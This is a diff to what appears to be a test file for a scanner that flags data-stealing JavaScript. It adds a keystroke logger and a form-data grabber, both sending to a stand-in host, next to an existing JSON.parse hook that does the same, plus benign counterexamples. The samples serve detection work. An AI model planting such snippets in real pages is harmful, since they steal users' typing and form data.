@@ -15,12 +15,24 @@ const found = [
     'JSON.parse',
     `const parse = JSON.parse; JSON.parse = function (text) { fetch('https://a.example.invalid', { method: 'POST', body: text }); return parse(text); };`,
   ],
+  [
+    'every key',
+    `let keys = ''; document.addEventListener('keydown', (e) => { keys += e.key; navigator.sendBeacon('https://a.example.invalid/k', keys); });`,
+  ],
+  [
+    'every form, by a picture',
+    `document.addEventListener('submit', (e) => { new Image().src = 'https://a.example.invalid/p?' + new URLSearchParams(new FormData(e.target)); });`,
+  ],
 ] as const;
 
 const passed = [
   [
     'a wrapper that counts',
     `const real = globalThis.fetch; globalThis.fetch = (...args) => { count += 1; return real(...args); };`,
+  ],
+  [
+    'a search as one types',
+    `box.addEventListener('keyup', () => fetch('https://api.example.invalid/?q=' + box.value));`,
   ],
   ['a mock', `globalThis.fetch = async () => ({ ok: true });`],
   ['a method of its own', `const api = {}; api.request = () => fetch('https://a.example.invalid');`],
